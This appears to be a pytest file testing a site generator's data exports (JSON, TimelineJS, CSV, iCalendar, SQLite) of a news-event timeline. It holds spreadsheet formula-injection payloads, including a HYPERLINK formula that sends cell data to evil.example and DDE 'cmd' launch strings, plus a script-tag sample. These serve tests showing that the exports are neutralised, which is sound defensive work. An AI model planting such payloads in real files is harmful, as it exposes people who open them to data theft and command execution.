"""The data exports, each read back with the tool a data user would use."""

from __future__ import annotations

import csv
import io
import json
import sqlite3

import icalendar
import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.build import build_site
from generator.cache import file_content_hash
from generator.errors import OutputError
from generator.exports import make_exports
from generator.exports.database import briefing_db, write_briefing_db
from generator.exports.events_csv import COLUMNS, events_csv, inert
from generator.exports.ical import events_ics
from generator.exports.jsonfile import json_bytes, write_json
from generator.exports.plaintext import html_to_text
from generator.exports.records import briefing_fields, briefing_record
from generator.exports.timelinejs import timeline_json
from generator.incremental import bytes_hash
from generator.urls import Addresses
from sitefiles import load_valid

EVENTS = """
    - id: meeting
      date: 2025-10-19
      title: Bob meets reporters, in Doha
      location: Doha
      actors: [bob]
      description: "Bob *met* reporters <script>alert(1)</script>."
      citations:
        - article: first
          excerpt: met reporters in Doha
    - id: talks
      date: 2025-10
      period: late
      circa: true
      title: Talks
      citations: [first]
    - id: round
      date: 2025-10-18
      end: 2025-10-19
      title: A round of talks
      citations: [first]
      disputes:
        - about: the place
          accounts:
            - says: In Doha.
              location: Doha
              citations: [first]
            - says: In Istanbul.
              location: Istanbul
              citations: [second]
    - id: long-ago
      date: 2021
      title: Long ago
      citations: [second]
"""
SECOND = """
    ---
    title: Second article
    date: 2025-11
    ---
    Robert Example spoke.
"""


@pytest.fixture
def briefing(tmp_site):
    def make(extra: dict | None = None):
        site = tmp_site({"content/events/events.yaml": EVENTS, "content/articles/second.md": SECOND, **(extra or {})})
        return load_valid(site)
    return make


def test_plain_text_keeps_blocks_apart_and_drops_markup():
    assert html_to_text("<p>One <em>two</em></p>\n<ul><li>three</li><li>four &amp; five</li></ul><script>x</script>") \
        == "One two\nthree\nfour & five"


def test_json_export_holds_everything_in_model_order(briefing):
    b = briefing()
    record = json.loads(json_bytes(briefing_record(b, Addresses())))
    assert record["format"] == "briefing-export/1"
    assert [e["id"] for e in record["events"]] == [e.id for e in b.events]
    talks = next(e for e in record["events"] if e["id"] == "talks")
    assert (talks["date"], talks["precision"], talks["period"], talks["circa"]) == ("2025-10", "month", "late", True)
    round_ = next(e for e in record["events"] if e["id"] == "round")
    assert [a["location"] for a in round_["disputes"][0]["accounts"]] == ["Doha", "Istanbul"]
    assert record["articles"][0]["page"].startswith("articles/")


_JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(min_value=-2**63, max_value=2**64 - 1) | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4), max_leaves=20)


@given(_JSON_VALUES)
def test_json_text_is_what_the_standard_library_writes(value):
    # orjson writes the exports; the bytes must stay those json.dumps(indent=2) wrote before.
    assert json_bytes(value) == (json.dumps(value, ensure_ascii=False, indent=2) + "\n").encode("utf-8")


@given(st.lists(st.tuples(st.text(), _JSON_VALUES, st.booleans()), max_size=5, unique_by=lambda f: f[0]))
def test_json_written_a_field_and_an_item_at_a_time_is_json_bytes(tmp_path_factory, fields):
    # Fields whose value is a list are given as iterators (streamed); all must read as json_bytes.
    path = tmp_path_factory.mktemp("json") / "out.json"
    streamed = [(key, iter(value) if stream and isinstance(value, list) else value) for key, value, stream in fields]
    write_json(path, streamed)
    assert path.read_bytes() == json_bytes({key: value for key, value, _ in fields})


def test_the_json_export_written_to_a_file_is_the_same_as_made_in_memory(briefing, tmp_path):
    b = briefing()
    write_json(tmp_path / "briefing.json", briefing_fields(b, Addresses()))
    assert (tmp_path / "briefing.json").read_bytes() == json_bytes(briefing_record(b, Addresses()))


def test_json_text_beyond_orjson_is_still_written():
    value = {"big": 2**70, "list": [1, {"a": []}]}
    assert json_bytes(value) == (json.dumps(value, ensure_ascii=False, indent=2) + "\n").encode("utf-8")


def test_timelinejs_dates_keep_their_precision(briefing):
    data = json.loads(timeline_json(briefing()))
    slides = {s["unique_id"]: s for s in data["events"]}
    assert set(data["title"]["text"]) == {"headline", "text"}
    assert slides["meeting"]["start_date"] == {"year": "2025", "month": "10", "day": "19", "display_date": "19 October 2025"}
    assert slides["talks"]["start_date"] == {"year": "2025", "month": "10", "display_date": "October 2025"}
    assert slides["talks"]["display_date"] == "c. late October 2025"
    assert slides["long-ago"]["start_date"] == {"year": "2021", "display_date": "2021"}
    assert slides["round"]["end_date"]["day"] == "19" and "end_date" not in slides["meeting"]
    assert slides["meeting"]["group"] == "October 2025"
    assert set(slides["meeting"]) == {"start_date", "display_date", "text", "group", "unique_id", "autolink"}


def test_timelinejs_text_escapes_and_links_only_with_a_base_url(briefing):
    slide = next(s for s in json.loads(timeline_json(briefing()))["events"] if s["unique_id"] == "meeting")
    assert "<script>" not in slide["text"]["text"]
    assert "<cite>First article</cite>" in slide["text"]["text"] and "href" not in slide["text"]["text"]
    linked = briefing({"site.yaml": "title: T\nbase_url: https://example.org/b/\n"})
    slide = next(s for s in json.loads(timeline_json(linked))["events"] if s["unique_id"] == "meeting")
    assert '<a href="https://example.org/b/articles/first.html">First article</a>' in slide["text"]["text"]


def test_csv_has_a_row_per_citation_with_its_account(briefing):
    text = events_csv(briefing()).decode("utf-8")
    assert text.count("\r\n") == text.count("\n")  # RFC 4180 line ends
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert tuple(rows[0]) == COLUMNS
    round_rows = [r for r in rows if r["event_id"] == "round"]
    assert [(r["dispute"], r["account"], r["account_location"], r["article_id"]) for r in round_rows] == [
        ("", "", "", "first"), ("the place", "In Doha.", "Doha", "first"), ("the place", "In Istanbul.", "Istanbul", "second")]
    meeting = next(r for r in rows if r["event_id"] == "meeting")
    assert meeting["title"] == "Bob meets reporters, in Doha" and meeting["excerpt"] == "met reporters in Doha"
    assert meeting["outlet"] == "The Wire" and meeting["actors"] == "Bob Example"


FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text(briefing):
    events = "".join(f"""
    - id: {name}
      date: 2025-10-19
      title: "{title.replace('"', chr(92) + '"')}"
      location: "{title.replace('"', chr(92) + '"')}"
      citations:
        - article: first
          note: "{title.replace('"', chr(92) + '"')}"
    """ for name, title in FORMULAS.items())
    text = events_csv(briefing({"content/events/events.yaml": events})).decode("utf-8")
    rows = {row["event_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    for name, formula in FORMULAS.items():
        # The text is all there, behind the apostrophe that tells a spreadsheet it is text.
        assert (rows[name]["title"], rows[name]["location"], rows[name]["citation_note"]) == ("'" + formula,) * 3
    assert rows["hyperlink"]["article_title"] == "First article"  # other cells as they were


def test_csv_cells_are_neutralised_by_their_first_character_only():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert inert(start + "1+1") == "'" + start + "1+1"
    for cell in ("", "Talks in Doha", "2025-10-19", "Pakistan-Afghanistan", "a=b", " =1", "'=1", "\u00a0"):
        assert inert(cell) == cell


def test_icalendar_events_are_all_day_ranges_with_stable_uids(briefing):
    b = briefing()
    data = events_ics(b, Addresses())
    assert data == events_ics(b, Addresses())
    assert all(len(line) <= 75 for line in data.split(b"\r\n"))  # folded (RFC 5545 3.1)
    calendar = icalendar.Calendar.from_ical(data)
    events = {str(e["uid"]): e for e in calendar.walk("VEVENT")}
    assert len(events) == len(b.events)
    by_summary = {str(e["summary"]): e for e in events.values()}
    meeting = by_summary["Bob meets reporters, in Doha"]
    assert (meeting.decoded("dtstart").isoformat(), meeting.decoded("dtend").isoformat()) == ("2025-10-19", "2025-10-20")
    assert meeting.decoded("dtstamp").isoformat() == "2025-10-19T00:00:00+00:00"  # its source's date, not the clock
    talks = by_summary["Talks (c. late October 2025)"]
    assert (talks.decoded("dtstart").isoformat(), talks.decoded("dtend").isoformat()) == ("2025-10-21", "2025-11-01")
    round_ = by_summary["A round of talks"]
    assert (round_.decoded("dtstart").isoformat(), round_.decoded("dtend").isoformat()) == ("2025-10-18", "2025-10-20")
    assert "Accounts differ on the place" in str(round_["description"])
    assert round_.decoded("dtstamp").isoformat() == "2025-11-01T00:00:00+00:00"
    long_ago = by_summary["Long ago (2021)"]
    assert (long_ago.decoded("dtstart").isoformat(), long_ago.decoded("dtend").isoformat()) == ("2021-01-01", "2022-01-01")
    # Another site (another title) gets other UIDs for the same ids.
    other = briefing({"site.yaml": "title: Another briefing\n"})
    assert not set(events) & {str(e["uid"]) for e in icalendar.Calendar.from_ical(events_ics(other, Addresses())).walk("VEVENT")}


def test_sqlite_database_has_keys_and_is_the_same_every_time(briefing):
    b = briefing()
    data = briefing_db(b, Addresses())
    assert data == briefing_db(b, Addresses())
    db = sqlite3.connect(":memory:")
    db.deserialize(data)
    tables = {row[0] for row in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert {"articles", "actors", "events", "outlets", "citations", "event_actors", "disputes", "accounts"} <= tables
    for table in tables:
        assert any(column[5] for column in db.execute(f"PRAGMA table_info({table})")), f"{table} has no primary key"
    foreign = {(row[2], row[3]) for row in db.execute("PRAGMA foreign_key_list(citations)")}
    assert {("articles", "article_id"), ("events", "event_id"), ("accounts", "account_id")} <= foreign
    assert db.execute("PRAGMA foreign_key_check").fetchall() == []
    assert db.execute("SELECT count(*) FROM events").fetchone() == (len(b.events),)
    assert db.execute("SELECT outlet FROM articles WHERE id = 'second'").fetchone() == (None,)
    sources = db.execute("SELECT event_id, dispute, article_id FROM event_sources WHERE event_id = 'round'").fetchall()
    assert sources == [("round", None, "first"), ("round", "the place", "first"), ("round", "the place", "second")]


def test_the_database_is_vacuumed_straight_into_its_file_replacing_an_old_one(briefing, tmp_path):
    b = briefing()
    path = tmp_path / "briefing.db"
    path.write_bytes(b"left by an attempt that failed")  # VACUUM INTO refuses an existing file
    write_briefing_db(b, Addresses(), path)
    assert path.read_bytes() == briefing_db(b, Addresses())
    db = sqlite3.connect(path)
    try:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert db.execute("SELECT count(*) FROM articles").fetchone() == (len(b.articles),)
    finally:
        db.close()


def test_a_database_that_cannot_be_written_is_an_os_error(briefing, tmp_path):
    with pytest.raises(OSError, match=r"cannot write briefing\.db"):
        write_briefing_db(briefing(), Addresses(), tmp_path / "no such folder" / "briefing.db")


def test_a_disk_that_fills_while_the_database_is_written_is_reported_as_full(tmp_site, tmp_path, monkeypatch):
    real_connect = sqlite3.connect

    class FillsUp:
        def __init__(self, db):
            self.db = db

        def __getattr__(self, name):
            return getattr(self.db, name)

        def __enter__(self):
            return self.db.__enter__()

        def __exit__(self, *exc):
            return self.db.__exit__(*exc)

        def execute(self, sql, *args):
            if sql.startswith("VACUUM INTO"):
                error = sqlite3.OperationalError("database or disk is full")
                error.sqlite_errorcode = sqlite3.SQLITE_FULL
                raise error
            return self.db.execute(sql, *args)

    monkeypatch.setattr(sqlite3, "connect", lambda target, *a, **k: FillsUp(real_connect(target, *a, **k))
                        if target == ":memory:" else real_connect(target, *a, **k))
    with pytest.raises(OutputError, match="the disk is full") as failure:
        build_site(tmp_site(), tmp_path / "out", cache=False, jobs=1)
    assert "(writing briefing.db)" in str(failure.value) and not (tmp_path / "out").exists()


@pytest.mark.parametrize("size", [0, 5, 3 * 2**20 + 7])
def test_a_file_hashes_as_its_bytes(tmp_path, size):
    path = tmp_path / "file"
    path.write_bytes(bytes(range(256)) * (size // 256) + b"x" * (size % 256))
    assert file_content_hash(path) == bytes_hash(path.read_bytes())


def test_the_data_page_lists_every_export(briefing):
    exports = make_exports(briefing(), Addresses())
    assert [e.path for e in exports] == ["data/briefing.json", "data/briefing.db", "data/timeline.json",
                                         "data/events.csv", "data/events.ics"]
    assert all(e.description and e.data for e in exports)
